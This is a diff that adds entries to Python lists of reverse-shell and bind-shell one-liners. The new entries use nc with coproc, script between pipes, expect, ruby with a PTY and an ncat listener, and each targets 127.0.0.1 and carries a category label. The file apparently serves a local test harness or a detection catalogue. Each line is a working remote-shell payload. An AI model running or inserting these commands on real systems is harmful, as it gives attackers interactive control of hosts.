@@ -124,6 +124,15 @@ REVERSE = [
     Way("busybox nc -e", "exec busybox nc 127.0.0.1 {port} -e /bin/sh", "shell-on-network", "dash"),
     Way("busybox nc and its shell", "cat {fifo}|busybox sh -i 2>&1|busybox nc 127.0.0.1 {port} >{fifo}",
         "shell-behind-relay", "busybox"),
+    Way("a coprocess", "coproc nc.openbsd 127.0.0.1 {port}; exec sh <&${{COPROC[0]}} >&${{COPROC[1]}}",
+        "shell-behind-relay", "dash"),
+    Way("script between pipes", "nc.openbsd 127.0.0.1 {port} <{fifo}|script -qc bash /dev/null >{fifo} 2>&1",
+        "shell-on-remote-terminal", "bash"),
+    Way("expect", "exec expect -c 'spawn nc.openbsd 127.0.0.1 {port}; set n $spawn_id; spawn bash; set b $spawn_id;"
+        "expect {{ -i $n -re .+ {{ send -i $b $expect_out(buffer); exp_continue }} timeout {{ exp_continue }} }}'",
+        "shell-on-remote-terminal", "bash"),
+    Way("ruby with a pty", "exec ruby -rsocket -rpty -e 's=TCPSocket.new(\"127.0.0.1\",{port});"
+        "PTY.spawn(\"bash\"){{|r,w,p|IO.copy_stream(s,w)}}'", "shell-on-remote-terminal", "bash"),
     Way("a program in C", "exec {c} connect {port}", "shell-on-network", "dash"),
     Way("a program in C with a pty", "exec {c} pty {port}", "shell-on-remote-terminal", "bash"),
 ]
@@ -149,6 +158,8 @@ BIND = [
         bind=True),
     Way("openbsd's nc -l and a fifo", "cat {fifo}|sh -i 2>&1|nc.openbsd -lN 127.0.0.1 {own} >{fifo}",
         "shell-behind-relay", "dash", bind=True, connect=False),
+    Way("ncat -c waits", "exec ncat --ssl -lk 127.0.0.1 {own} -c 'exec sh'", "hands-out-shell", "ncat", bind=True,
+        connect=False),
     Way("socat waits", "exec socat TCP-LISTEN:{own},bind=127.0.0.1,reuseaddr,fork EXEC:/bin/sh",
         "hands-out-shell", "socat", bind=True, connect=False),
     Way("socat serves with a pty", "exec socat TCP-LISTEN:{own},bind=127.0.0.1,fork "
